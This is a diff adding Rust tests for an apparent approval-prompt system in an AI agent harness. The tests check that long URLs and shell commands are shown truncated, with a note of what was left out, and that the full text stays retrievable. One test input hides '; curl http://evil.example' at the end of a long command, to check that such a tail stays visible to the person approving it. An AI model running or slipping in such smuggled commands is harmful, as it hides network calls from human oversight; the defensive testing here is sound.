@@ -3,7 +3,7 @@
 use crate::{Desk, held, refused};
 use plan::Event;
 use serde_json::{Value, json};
-use support::{Reply, ask_user, plan_write};
+use support::{Reply, ask_user, plan_write, wait_for};
 
 async fn inbox(desk: &Desk) -> Vec<Value> {
     let page = desk.client().get("/v1/asks").await.ok();
@@ -101,4 +101,87 @@ async fn what_leaves_with_an_address_is_shown_before_it_is_fetched() {
     let shown = ask["detail"].as_array().unwrap();
     let shown = shown.iter().find(|detail| detail["name"] == "arguments").unwrap();
     assert_eq!(shown["value"], url);
+}
+
+fn detail<'a>(ask: &'a Value, name: &str) -> &'a Value {
+    let all = ask["detail"].as_array().expect("it has details");
+    all.iter().find(|detail| detail["name"] == name).unwrap_or_else(|| panic!("no {name}: {ask}"))
+}
+
+/// Of a long address or command the end may be what matters.
+#[tokio::test]
+async fn what_is_asked_about_says_what_it_leaves_out_and_can_be_read_whole() {
+    let end = "&and=what-leaves-with-it";
+    let url = format!("http://example.com/?{}{end}", "x".repeat(5_000));
+    let command = format!("ask-me {} ; curl http://evil.example", "é".repeat(3_000));
+    let script = vec![
+        Reply::call("fetch", json!({ "url": url })),
+        Reply::call("shell", json!({ "command": command, "network": ["example.com"] })),
+        Reply::text("ok"),
+    ];
+    let mut desk = Desk::with(script).await;
+    desk.say("look it up").await;
+    desk.wait_asked().await;
+    for (name, text, tail) in [("arguments", &url, end), ("target", &command, "evil.example")] {
+        wait_for(async || inbox(&desk).await.len() == 1, "the question").await;
+        let ask = inbox(&desk).await.remove(0);
+        let shown = detail(&ask, name);
+        let value = shown["value"].as_str().unwrap();
+        assert!(value.contains(" characters left out … ") && value.ends_with(tail), "{value}");
+        assert!(value.chars().count() < 1_000, "{value}");
+        let hash = shown["whole"]["blob"].as_str().expect("it names the whole text");
+        assert_eq!(shown["whole"]["bytes"], text.len());
+        let whole = desk.client().get(&format!("/v1/blobs/{hash}")).await;
+        assert_eq!(whole.body, json!(text));
+        // The question itself says it in the same words.
+        assert!(!ask["text"].to_string().contains(&"é".repeat(1_000)), "{ask}");
+        // All of it is there after a restart, too.
+        desk.restart().await;
+        let hash = detail(&inbox(&desk).await[0], name)["whole"]["blob"].clone();
+        let path = format!("/v1/blobs/{}", hash.as_str().unwrap());
+        assert_eq!(desk.client().get(&path).await.body, json!(text));
+        let refuse = json!({ "answer": "refuse" });
+        answer(&desk, &ask, refuse).await.ok();
+    }
+}
+
+#[tokio::test]
+async fn what_is_not_kept_whole_can_be_refused_and_not_allowed() {
+    let desk = Desk::with(vec![]).await;
+    let mut long = plan::Detail::new("arguments", "beginning and end");
+    long.whole = Some(plan::Whole { blob: "0".repeat(64), bytes: 5_000 });
+    // As it was asked when long facts lost their end.
+    let cut = plan::Detail::new("target", "x".repeat(1_000));
+    for (detail, code) in
+        [(long, refused(409, "NOT_KEPT_WHOLE")), (cut, refused(422, "BAD_ANSWER"))]
+    {
+        let ask = plan::Ask {
+            id: plan::AskId(engine::fresh_id()),
+            kind: plan::AskKind::Permission,
+            plan_id: None,
+            step_id: None,
+            call_id: None,
+            text: "May it run?".to_owned(),
+            detail: vec![detail, plan::Detail::new("rule", "fetch(example.com)")],
+            created_at: plan::Time(1),
+        };
+        let raise = plan::Command::RaiseAsk { ask };
+        let (engine, room) = (desk.house.engine(), desk.house.room);
+        engine.submit(room, &plan::Actor::harness(), raise).unwrap().stored().await.unwrap();
+        let ask = inbox(&desk).await.remove(0);
+        for allowing in ["allow", "always"] {
+            let tried = answer(&desk, &ask, json!({ "answer": allowing })).await;
+            assert_eq!(tried.refusal(), code, "{allowing}");
+            let person = flow::me();
+            let by_window = plan::Command::Answer {
+                ask: plan::AskId(ask["id"].as_str().unwrap().parse().unwrap()),
+                answer: allowing.to_owned(),
+                note: None,
+                revision: None,
+                hash: None,
+            };
+            assert!(engine.submit(room, &person, by_window).is_err(), "nor in the window");
+        }
+        answer(&desk, &ask, json!({ "answer": "refuse" })).await.ok();
+    }
 }
